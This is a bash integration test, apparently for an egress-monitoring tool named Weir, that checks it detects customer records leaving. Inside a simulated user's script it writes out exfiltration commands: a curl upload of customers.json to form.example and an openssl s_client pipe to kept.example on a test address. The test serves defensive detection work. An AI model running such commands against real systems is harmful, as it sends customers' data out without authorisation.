#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Said before. Customer rows go to servers that nothing names but the sender's own TLS hello, and that
# was sent before the sender had read a single row: a form's file is read after it, and a connection
# that was made for something else is used again. The agent is in another network than her desk.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

ip -n weir-meet.test address add 10.77.0.61/24 dev eth0
crm_serves crm.test
cloud_serves meet.test
weir_watches

alice_does <<'END'
curl -sSk --resolve private.example:443:10.77.0.50 https://private.example/
for number in 1 2 3; do
	curl -sS "https://crm.test/policy/P20207000$number" >>customers.json
done
curl -sSk -F file=@customers.json --resolve form.example:443:10.77.0.50 https://form.example/upload
{
	sleep 3
	cat customers.json
} | openssl s_client -quiet -servername kept.example -connect 10.77.0.61:443 || :
END
rows_bytes=$(stat -c %s "$home/customers.json")
then_it "the rows have arrived" test "$(received_bytes meet.test)" -ge "$rows_bytes"

soon "two incidents" incidents_say "len(d) == 2"
sink_is() { # ADDRESS HOST
	incidents_say "[(s['name'], s['host'], s['host_source']) for i in d for s in i['sinks'] if s['address'] == '$1'] == [('', '$2', 'tls_server_name')]"
}
soon "whom a form was sent to is named by the hello before it" sink_is 10.77.0.50 form.example
soon "a connection that stood for seconds has the name that it was made with" \
	sink_is 10.77.0.61 kept.example
soon "the paragraph says so" \
	incidents_say "any('form.example (10.77.0.50, named by its TLS hello; not named by the policy)' in i['explanation'] for i in d)"
heard() {
	every_stage_accounts && json_says "$work/status.json" \
		"next(s['out'] for s in d['agent']['stages'] if s['name'] == 'greetings') >= 5"
}
then_it "the status tells of what was heard" eventually 10 heard
weir_stops
stands_in_what_weir_wrote() { # TEXT
	grep -raqF "$1" "$data" "$weir_log" "$weir_live"
}
then_it "whom she sent rows to stands in what Weir wrote" stands_in_what_weir_wrote form.example
then_it "whom she spoke to without a row does not" not stands_in_what_weir_wrote private.example
